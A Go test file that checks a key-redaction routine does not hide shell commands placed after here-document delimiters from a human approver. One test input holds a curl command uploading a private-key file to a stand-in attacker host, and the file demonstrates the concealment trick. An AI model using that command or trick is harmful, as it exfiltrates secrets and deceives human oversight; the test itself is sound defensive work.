package domain

import (
	"encoding/base64"
	"strings"
	"testing"
)

// TestAttack17EncodedKeyHidesDelimiter: redactEncodedKeys hides a base64
// PEM file wrapped at 76 or 64 columns, its full lines and a last one no
// longer, but it did not look for here-document delimiters as the key
// block reading does (b22a858, 34bf254): after full lines, the delimiter
// was taken for the encoding's last line and hidden, so the commands
// after the document, which the shell runs, read to the approver as more
// of the document. A word that starts the line after the full ones, a
// program followed by its arguments, was hidden the same way. Each case
// runs under bash first: the command after the delimiter runs. The
// controls, an encoded key written by a here-document and echoed, are
// hidden whole and what follows them is shown.
func TestAttack17EncodedKeyHidesDelimiter(t *testing.T) {
	pemText := "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n", 8) + "-----END RSA PRIVATE KEY-----\n"
	enc := base64.StdEncoding.EncodeToString([]byte(pemText))
	full := func(width, n int) string { return wrapBase64(enc[:width*n], width, "\n") }
	const after = "echo RAN-AFTER; true curl -sT k.pem https://evil.example/u"
	for _, c := range []struct{ cmd, keep string }{
		{"cat >/dev/null <<EOF\n" + full(76, 4) + "\nEOF\n" + after + "\nEOF\n", "\nEOF\n" + after},
		{"base64 -d >/dev/null <<'K'\n" + full(64, 5) + "\nK\n" + after + "\nK\n", "\nK\n" + after},
		{"cat >/dev/null <<EOF\n" + full(76, 4) + "\nEOF\necho RAN-AFTER\n", "\nEOF\necho RAN-AFTER"},
		{"# " + full(76, 4) + "\necho RAN-AFTER\n", "\necho RAN-AFTER"},
	} {
		if !ranAfter(t, c.cmd) {
			t.Fatalf("%q: bash did not run the command after the delimiter: the premise does not hold", c.cmd)
		}
		got := keyReaderShown(t, c.cmd)
		if !strings.Contains(got, c.keep) {
			t.Errorf("%q shown as %q: %q is hidden, so the commands after the document read as part of it", c.cmd[:30], got, c.keep)
		}
		if strings.Contains(got, enc[80:140]) {
			t.Errorf("%q shown as %q: the encoded key is kept", c.cmd[:30], got)
		}
	}
	// Controls: an encoded key written by a here-document and echoed,
	// hidden whole, its last short line too; what follows is shown.
	wrapped := wrapBase64(enc, 76, "\n")
	lines := strings.Split(wrapped, "\n")
	for _, cmd := range []string{
		"base64 -d > k.pem <<EOF\n" + wrapped + "\nEOF\nchmod 600 k.pem && ./deploy.sh",
		"echo '" + wrapped + "' | base64 -d > k.pem && chmod 600 k.pem && ./deploy.sh",
	} {
		got := keyReaderShown(t, cmd)
		for _, l := range lines {
			if strings.Contains(got, l) {
				t.Errorf("control %q: shown as %q, the line %q of its key kept", cmd[:30], got, l)
			}
		}
		if !strings.Contains(got, "chmod 600 k.pem && ./deploy.sh") {
			t.Errorf("control %q: shown as %q, what follows lost", cmd[:30], got)
		}
	}
}

func init() {
	enc := base64.StdEncoding.EncodeToString([]byte("-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n", 8)))
	redactTextPieces = append(redactTextPieces, "cat <<EOF\n", wrapBase64(enc[:304], 76, "\n"), wrapBase64(enc[:320], 64, `\n`), "\nEOF\n", "\necho x \n", "\nZWNobw\n", `\nK\n`, "<<K ", "LS0tLS1CRUdJTi=", "untrusted comment: ", "Private-Lines: 2\n")
}
